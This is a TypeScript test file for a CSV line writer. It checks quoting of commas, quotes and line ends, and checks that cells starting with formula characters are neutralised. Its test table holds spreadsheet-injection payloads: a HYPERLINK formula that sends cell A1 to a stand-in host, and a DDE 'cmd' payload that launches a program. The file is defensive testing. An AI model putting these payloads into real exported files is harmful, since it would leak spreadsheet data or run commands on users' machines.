// Catalogue: I8.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cellsIn } from '#test/csv.js';
import { csvLine } from './csv.js';

describe('a line of a CSV file', () => {
  it('has each value as a spreadsheet program reads it', () => {
    const at = new Date('2026-11-22T10:00:00.000Z');
    expect(csvLine(['text', 3, -1.5, true, null, at])).toBe('text,3,-1.5,true,,2026-11-22T10:00:00.000Z\r\n');
  });

  it('quotes commas, quotes, line ends and spaces at the edge', () => {
    expect(csvLine(['a,b', 'say "x"', 'two\r\nlines', ' x', 'y '])).toBe(
      '"a,b","say ""x""","two\r\nlines"," x","y "\r\n',
    );
  });

  it.each([
    ['=', '=HYPERLINK("http://x.invalid?"&A1,"open")'],
    ['+', '+1+1'],
    ['-', '-2+3+cmd|" /C calc"!A0'],
    ['@', '@SUM(1+1)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['a line feed', '\n=1+1'],
    ['a formula behind spaces', '  =1+1'],
    ['a formula in full width', '＝1+1'],
  ])('neutralises what begins with %s, and loses nothing of it', (_, hostile) => {
    expect(cellsIn(csvLine(['before', hostile, 'after']))).toEqual([['before', `'${hostile}`, 'after']]);
  });

  it.each(['a-b', 'x=y', 'nova+tag@example.org', "o'neil", '_-_', '3'])('leaves %s alone', (plain) =>
    expect(csvLine([plain])).toBe(`${plain}\r\n`),
  );

  it('brings every other text back as it was', () => {
    const harmless = fc.string({ unit: 'binary' }).filter((text) => !/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(text));
    fc.assert(
      fc.property(fc.array(harmless, { minLength: 1, maxLength: 5 }), (cells) => {
        expect(cellsIn(csvLine(cells))).toEqual([cells]);
      }),
    );
  });
});
